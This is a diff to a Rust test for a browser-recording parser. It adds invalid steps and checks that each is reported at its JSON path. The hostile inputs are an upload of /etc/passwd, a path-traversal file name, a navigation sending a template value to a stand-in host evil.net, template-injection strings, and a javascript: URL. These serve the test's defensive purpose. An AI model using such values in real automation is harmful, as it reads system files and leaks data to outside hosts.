@@ -119,7 +119,13 @@ fn every_problem_is_told_at_its_place_and_all_at_once() {
             {"type": "click", "selectors": ["#a"], "target": "https://popup"},
             {"type": "emulateNetworkConditions", "download": 1, "upload": 1, "latency": 1},
             {"type": "navigate", "url": "javascript:alert(1)"},
-            "step"
+            "step",
+            {"type": "waitForElement", "selectors": ["#a"], "count": 0, "visble": true},
+            {"type": "customStep", "name": "upload", "parameters": {"selectors": ["#f"],
+                "files": ["/etc/passwd", "{{ caption }}", "{{ caption }}/../x"]}},
+            {"type": "navigate", "url": "https://evil.net/{{ caption }}"},
+            {"type": "change", "selectors": ["#a"], "value": "{{ armed_at }}"},
+            {"type": "change", "selectors": ["#a"], "value": "{% set a = a ~ a %}{{ caption }}"}
         ]
     });
     let problems = parse(&recording).unwrap_err();
@@ -150,6 +156,14 @@ fn every_problem_is_told_at_its_place_and_all_at_once() {
         "/steps/10/parameters/files",
         "/steps/11/parameters/name",
         "/steps/12/frame",
+        "/steps/17/count",
+        "/steps/17/visble",
+        "/steps/18/parameters/files/0",
+        "/steps/18/parameters/files/1",
+        "/steps/18/parameters/files/2",
+        "/steps/19/url",
+        "/steps/20/value",
+        "/steps/21/value",
         "/steps/13/target",
         "/steps/14/type",
         "/steps/15/url",
